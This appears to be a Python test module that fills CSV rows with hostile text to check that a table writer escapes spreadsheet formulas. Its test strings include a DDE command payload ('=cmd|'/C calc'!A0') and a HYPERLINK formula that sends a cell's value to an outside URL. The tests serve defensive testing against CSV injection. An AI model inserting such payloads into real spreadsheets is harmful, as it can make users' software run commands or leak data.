"""Rows with hostile text in every text field, and the cells that every CSV reader should find."""

import re
import sys
import unicodedata
from collections.abc import Mapping
from datetime import datetime
from itertools import cycle
from typing import Any, Final

from hypothesis import strategies as st

from tests.columns.fill_fields import ROWS, with_texts
from wtisd_model.columns.table import columns_of
from wtisd_model.json.builtins import from_builtins
from wtisd_model.schema.patterns import BLANK, UNSEEN

TEXTS: Final = (
    *(
        "=1+1",
        "+1",
        "-1",
        "@SUM(1;1)",
        "＝1",
        "－1",
        "＠x",
        "﹣1",
        "=cmd|'/C calc'!A0",
        '"=1',
        "'=1",
        "''",
        "a;=1",
        "a,+1",
    ),
    *('=HYPERLINK("http://example.org/?x="&A1,"x")', "a; \u3000@x", "NA", "null", "NaN", "true", "1", "1e5", "|", "\\"),
    *("=1+1|2", '"', "a\u200b=b", "Genève 日本 العربية"),
)
"""Formulas, and texts that CSV readers take for other values."""


def hostile_rows(cls: type) -> list[Any]:
    """Return as many rows as there are hostile texts; each text is in every field of some row."""
    document = ROWS[cls] | {key: "=1+1" for key in ("eventUid", "uid") if key in ROWS[cls]}
    starts = range(len(TEXTS))
    return [from_builtins(cls, with_texts(cls, document, cycle(TEXTS[at:] + TEXTS[:at]))) for at in starts]


def expected_cells(cls: type, rows: list[Any]) -> dict[str, list[str]]:
    """Return the expected cells of a table without apostrophes, independently of the writer."""
    return {column.name: [*map(_cell, column.values(rows))] for column in columns_of(cls)}


def _cell(value: Any) -> str:
    match value:
        case None:
            return ""
        case bool():
            return str(value).lower()
        case datetime():
            return f"{value:%Y-%m-%dT%H:%M:%SZ}"
        case tuple():
            return " | ".join(re.sub(r"([|\\])", r"\\\1", _cell(each)) for each in value)
        case _:
            return str(value)


def without_escapes(cells: Mapping[str, list[str]]) -> dict[str, list[str]]:
    """Remove the apostrophes before formulas, as docs/how-to/tables.md shows."""
    return {name: [re.sub(r"(^|[,;\t\r\n])'", r"\1", each) for each in column] for name, column in cells.items()}


FORMULA: Final = frozenset(
    each for each in map(chr, range(sys.maxunicode + 1)) if unicodedata.normalize("NFKC", each)[0] in "=+-@"
)
"""Characters that begin a formula, and their compatibility equivalents in Unicode."""


LINE_ENDS: Final = "\t\r\n"
SEPARATORS: Final = f",;{LINE_ENDS}"

DROPPED: Final = "".join(
    each for each in map(chr, range(sys.maxunicode + 1)) if re.match(f"[{BLANK}{UNSEEN}]", each) and each != "\n"
)
"""White space and invisible characters."""


PIECES: Final = (*"=+-@'\"a1 |\\", *SEPARATORS, "\u3000", "\ufeff", "\u200b", "＝", "﹣", "\u2a75", "cmd|'/C calc'!A0")
hostile = st.lists(st.sampled_from(PIECES)).map("".join) | st.text()


def parts(text: str) -> list[str]:
    """Split a cell at every separator, as a program might."""
    return re.split(f"[{SEPARATORS}]", text)
